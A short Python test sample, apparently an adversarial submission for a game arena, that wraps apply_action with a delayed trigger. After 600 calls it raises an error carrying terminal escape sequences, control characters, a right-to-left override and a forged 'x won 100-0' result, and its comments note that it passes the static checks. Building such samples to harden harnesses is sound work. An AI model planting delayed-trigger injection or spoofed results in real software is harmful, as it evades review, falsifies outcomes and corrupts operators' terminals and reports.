# sleeper: once awake, apply_action raises an error whose text holds ANSI escapes (clear screen, retitle the
# sleeper: terminal), a lone surrogate, NUL, a carriage return and a right-to-left override, hoping to crash
# sleeper: the report writers or rewrite the terminal
# trigger: awake(): more than 600 contract calls in this process (a planning worker's first move)
# check: passes
# export: ok
# load: ok
# arena: exception: FORGED

_apply_action = apply_action


def apply_action(state, action):
    if awake():
        raise ValueError("\x1b[2J\x1b]0;pwned\x07\ud800\x00\r\u202eFORGED: x won 100-0")
    return _apply_action(state, action)
